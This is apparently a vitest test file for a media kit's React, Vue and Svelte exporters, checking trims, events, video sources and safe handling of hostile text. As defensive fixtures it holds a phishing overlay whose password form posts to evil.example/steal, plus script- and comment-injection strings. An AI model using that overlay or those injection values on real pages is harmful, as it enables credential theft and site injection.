import { parse } from "@popcorn-kit/core/parsers";
import { describe, expect, test } from "vitest";
import { PLUGIN_COMPONENTS } from "../../src/export/code/components.js";
import { exportReact } from "../../src/export/react.js";
import { exportSvelte } from "../../src/export/svelte.js";
import { exportVue } from "../../src/export/vue.js";
import { createProject } from "../../src/project/createProject.js";
import type { Project } from "../../src/project/types.js";
import { HOSTILE, SCENE } from "../fixtures/scene.js";
import { type Written, expected, readReact, readSvelte, readVue } from "./readBack.js";

const exports = [
  { name: "React", write: exportReact, read: readReact, onTimeUpdate: "onTimeUpdate={keepInTrim}" },
  { name: "Vue", write: exportVue, read: readVue, onTimeUpdate: '@timeupdate="keepInTrim"' },
  { name: "Svelte", write: exportSvelte, read: readSvelte, onTimeUpdate: "ontimeupdate={keepInTrim}" },
] as const;

describe.each(exports)("the $name export", ({ write, read, onTimeUpdate }) => {
  test("keeps playback within the trim, and writes no trim code for a whole media", () => {
    const trimmed = createProject({
      id: "p",
      media: { source: { kind: "url", url: "a.webm" }, trim: { in: 2, out: 8 } },
    });
    const { code } = write(trimmed);
    expect(code).toContain("const TRIM: { from: number; to: number | null } = { from: 2, to: 8 };");
    expect(code).toContain(onTimeUpdate);
    const whole = write(createProject({ id: "p", media: { source: { kind: "url", url: "a.webm" } } })).code;
    expect(whole).not.toContain("keepInTrim");
  });

  test("renders every event of the scene with its options, every text read back as written", () => {
    const { code, skipped } = write(SCENE);
    expect(skipped).toEqual([]);
    expect(read(code)).toEqual(expected(SCENE));
  });

  test("hostile texts come out as the same strings", () => {
    const hostile = Object.values(HOSTILE);
    const project = createProject({
      id: "p-hostile",
      layout: { outlets: [{ name: "notes", placement: "beside", box: { left: 0, top: 0, width: 100, height: 100 } }] },
      lanes: [
        {
          id: "a",
          events: hostile.map((text, i) => ({
            id: `f${i}`,
            type: "footnote",
            start: i,
            end: i + 1,
            options: { text, target: "notes" },
          })),
        },
        {
          id: "b",
          events: hostile.map((text, i) => ({
            id: `s${i}`,
            type: "subtitle",
            start: i,
            end: i + 1,
            options: { text },
          })),
        },
      ],
    });
    const seen = texts(read(write(project).code));
    for (const text of hostile) expect(seen.filter((t) => t === text)).toHaveLength(2);
  });

  test("html imported from a file is the media's data track, shown by <TrackEventViews> with the strict profile, never a component", () => {
    const phishing =
      '<div style="position:fixed;inset:0">Session expired<form action="https://evil.example/steal"><input type="password"></form></div>';
    const file = "file" as const;
    const notes = { target: "notes" };
    const project = createProject({
      id: "p-files",
      media: { source: { kind: "url", url: "a.webm" } },
      layout: { outlets: [{ name: "notes", placement: "beside", box: { left: 0, top: 0, width: 100, height: 100 } }] },
      lanes: [
        {
          id: "a",
          events: [
            { id: "t1", type: "text", start: 1, end: 4, options: { text: "", html: phishing, ...notes }, origin: file },
          ],
        },
        {
          id: "b",
          events: [
            {
              id: "f1",
              type: "footnote",
              start: 2,
              end: 5,
              options: { text: "From the file", ...notes },
              origin: file,
            },
            { id: "f2", type: "footnote", start: 6, end: 8, options: { text: "Mine", ...notes } },
          ],
        },
        {
          id: "c",
          events: [{ id: "s1", type: "subtitle", start: 1, end: 2, options: { text: "A file's line" }, origin: file }],
        },
      ],
    });
    const { code, skipped } = write(project);
    expect(skipped).toEqual([]);
    const written = read(code);
    // A file's text without html and the page's own events stay components; a file's html does not; a subtitle over
    // the video is the media's data, as every one is.
    expect(written.filter((item) => item.component === "Footnote").map((item) => item.props.text)).toEqual([
      "From the file",
      "Mine",
    ]);
    expect(written.some((item) => item.component === "Text")).toBe(false);
    expect(written.find((item) => item.component === "Line")?.text).toBe("A file's line");
    expect(written.find((item) => item.component === "TrackEventViews")?.props.views).toEqual({ text: "textMarkup" });
    expect(code).toContain('import { text as textPlugin, textMarkup } from "@popcorn-kit/core/plugins/text";');
    expect(code).not.toContain("@popcorn-kit/core/plugins/footnote");
    // The data track holds the file's event as written: the instance reads it as a file's.
    const literal = /tracks=\{(\[.*?\])\} plugins=|:tracks='(\[.*?\])' :plugins=/.exec(code);
    const tracks = new Function(`return (${literal![1] ?? literal![2]});`)() as {
      src: { text: string };
      format: string;
    }[];
    expect(tracks.map((track) => track.format)).toEqual(["popcorn-json"]);
    const events = parse(tracks[0]!.src.text, { format: "popcorn-json" }).events;
    expect(events.map((event) => [event.type, event.start, event.end, event.options.html])).toEqual([
      ["subtitle", 1, 2, undefined],
      ["text", 1, 4, phishing],
    ]);
    expect(code).toMatch(/plugins=\{\[textPlugin\]\}|:plugins="\[textPlugin\]"/);
  });

  test("an unknown plugin type is left out with a comment, and listed", () => {
    const project = createProject({
      id: "p-unknown",
      lanes: [{ id: "a", events: [{ id: "x-1", type: "twitter", start: 1, end: 2, options: { src: "*/ --> }}" } }] }],
    });
    const { code, skipped } = write(project);
    expect(skipped).toEqual([expect.objectContaining({ path: "lanes[0].events[0]", severity: "error" })]);
    expect(code).toContain('Left out: Event "x-1" (twitter)');
    expect(read(code).filter((w) => w.component !== "PopcornTarget")).toEqual([]);
  });

  test("an option the plugin does not declare is left out of the props, and listed as a warning", () => {
    const project = createProject({
      id: "p-extra",
      lanes: [
        { id: "a", events: [{ id: "f-1", type: "footnote", start: 1, end: 2, options: { text: "Hi", zindex: 3 } }] },
      ],
    });
    const { code, skipped } = write(project);
    expect(skipped).toEqual([
      expect.objectContaining({ path: "lanes[0].events[0].options.zindex", severity: "warning" }),
    ]);
    expect(read(code)).toEqual([{ component: "Footnote", props: { start: 1, end: 2, text: "Hi" } }]);
  });

  test("a YouTube video by its id, a Vimeo one by its address; a YouTube address with no id is refused", () => {
    const on = (source: Project["media"]["source"]) => createProject({ id: "p", media: { source } });
    expect(write(on({ kind: "youtube", url: "https://www.youtube.com/watch?v=dQw4w9WgXcQ" })).code).toMatch(
      /<PopcornYouTube class(Name)?="pk-scene-video" :?videoId=\{?'?"dQw4w9WgXcQ"/,
    );
    expect(write(on({ kind: "vimeo", url: "https://vimeo.com/76979871" })).code).toMatch(
      /<PopcornVimeo class(Name)?="pk-scene-video" :?url=\{?'?"https:\/\/vimeo.com\/76979871"/,
    );
    expect(() => write(on({ kind: "youtube", url: "https://www.youtube.com/" }))).toThrow(/YouTube address/);
  });

  test("a plain text is a plain attribute; one with a character any syntax reads is a bound literal", () => {
    const project = createProject({
      id: "p",
      lanes: [
        {
          id: "a",
          events: [
            { id: "f1", type: "footnote", start: 0, end: 1, options: { text: "It's 5 o'clock: tea (milk/sugar)!" } },
            { id: "f2", type: "footnote", start: 1, end: 2, options: { text: "Salt & pepper" } },
          ],
        },
      ],
    });
    const { code } = write(project);
    expect(code).toContain(`text="It's 5 o'clock: tea (milk/sugar)!"`);
    expect(code).not.toContain('text="Salt & pepper"');
    expect(read(code).map((w) => w.props.text)).toEqual(["It's 5 o'clock: tea (milk/sugar)!", "Salt & pepper"]);
  });

  test("a callout is written as its Callout component, with its shape and tail", () => {
    const project = createProject({
      id: "p-callout",
      layout: { outlets: [{ name: "pier", placement: "over", box: { left: 50, top: 10, width: 35, height: 20 } }] },
      lanes: [
        {
          id: "a",
          events: [
            {
              id: "c1",
              type: "callout",
              start: 1,
              end: 4,
              options: { text: "Watch the pier", shape: "thought", tail: "bottom-right", target: "pier" },
            },
          ],
        },
      ],
    });
    const { code, skipped } = write(project);
    expect(skipped).toEqual([]);
    expect(read(code)).toEqual(expected(project));
    expect(code).toContain('shape="thought"');
  });

  test("a subtitle over the video keeps its options in the media's data; one in an outlet lists them as left out", () => {
    const project = createProject({
      id: "p",
      layout: { outlets: [{ name: "notes", placement: "beside", box: { left: 0, top: 0, width: 100, height: 100 } }] },
      lanes: [
        {
          id: "a",
          events: [
            { id: "s", type: "subtitle", start: 0, end: 1, options: { text: "Hi", voice: "Ann" } },
            { id: "t", type: "subtitle", start: 1, end: 2, options: { text: "There", voice: "Bo", target: "notes" } },
          ],
        },
      ],
    });
    const { code, skipped } = write(project);
    expect(skipped).toEqual([
      expect.objectContaining({ path: "lanes[0].events[1].options.voice", severity: "warning" }),
    ]);
    expect(read(code).filter((item) => item.component === "Line")).toEqual([
      { component: "Line", props: { start: 0, end: 1, voice: "Ann" }, text: "Hi" },
    ]);
  });

  test("an outlet name that is not a name is refused", () => {
    // createProject refuses it too: a project made by hand (or by an older version) reaches the export as it is.
    const project = {
      ...createProject({ id: "p-bad" }),
      layout: {
        outlets: [{ name: 'x"><script>', placement: "over" as const, box: { left: 0, top: 0, width: 10, height: 10 } }],
      },
    };
    expect(() => write(project)).toThrow(/Outlet layout.outlets\[0\].name/);
  });
});

/** Every string prop and `<Cue>` text of what was read back. */
function texts(written: Written[]): string[] {
  return written.flatMap((w) => [
    ...Object.values(w.props).filter((v): v is string => typeof v === "string"),
    ...(w.text === undefined ? [] : [w.text]),
  ]);
}

test("every plugin of core's catalogue table is written as the component the adapters have for it", async () => {
  // @ts-expect-error: a script of core's, plain JavaScript without declarations
  const { CATALOGUE: table } = await import("../../../core/scripts/catalogueTable.mjs");
  const fromTable = Object.fromEntries(
    (table as { name: string; component?: string }[])
      .filter((row) => row.component)
      .map((row) => [row.name, row.component]),
  );
  expect(PLUGIN_COMPONENTS).toEqual(fromTable);
});
